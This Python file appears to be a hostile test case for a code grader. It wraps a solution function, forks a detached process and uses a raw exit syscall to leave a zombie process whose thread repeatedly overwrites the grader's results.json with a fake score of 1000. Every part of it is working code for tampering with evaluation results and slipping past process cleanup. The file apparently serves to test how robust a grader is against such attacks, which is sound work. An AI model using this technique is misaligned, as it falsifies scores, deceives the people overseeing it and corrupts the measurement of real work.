# Hostile: elementwise_log_det leaves a thread-group leader that has exited (a
# zombie) with a live thread, which then rewrites the grader's results.json for a
# long while after the grading.  First in a detached child (fork + setsid); where
# processes cannot be created, in the case process itself (no result comes back then).
import ctypes
import json
import os
import platform
import threading
import time

TOKEN = None
_honest_elementwise_log_det = elementwise_log_det  # noqa: F821 - from the solution above
_SYS_EXIT = {"x86_64": 60, "aarch64": 93}[platform.machine()]


def _results_paths():
    paths = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as handle:
                    args = handle.read().split(b"\0")
                if b"--json" in args and any(TOKEN.encode() in arg for arg in args):
                    paths.append(os.path.join(os.readlink(f"/proc/{pid}/cwd"),
                                              args[args.index(b"--json") + 1].decode()))
            except OSError:
                pass
    return paths


def _rewrite_later(paths):
    time.sleep(2.0)
    for _ in range(480):  # 120 s: past the end of a grading that waits for the zombie, or gives up
        for path in paths + _results_paths():
            try:
                with open(path, "w") as handle:
                    json.dump({"score": 1000.0, "output": "rewritten by a zombie's thread", "tests": []}, handle)
            except OSError:
                pass
        time.sleep(0.25)


def _become_zombie_leader(paths):
    threading.Thread(target=_rewrite_later, args=(paths,)).start()
    ctypes.CDLL(None).syscall(_SYS_EXIT, 0)  # SYS_exit ends the calling (main) thread only


def elementwise_log_det(x, a):
    paths = _results_paths()
    try:
        pid = os.fork()
    except OSError:
        _become_zombie_leader(paths)
        raise
    if pid == 0:
        os.setsid()
        _become_zombie_leader(paths)
    return _honest_elementwise_log_det(x, a)
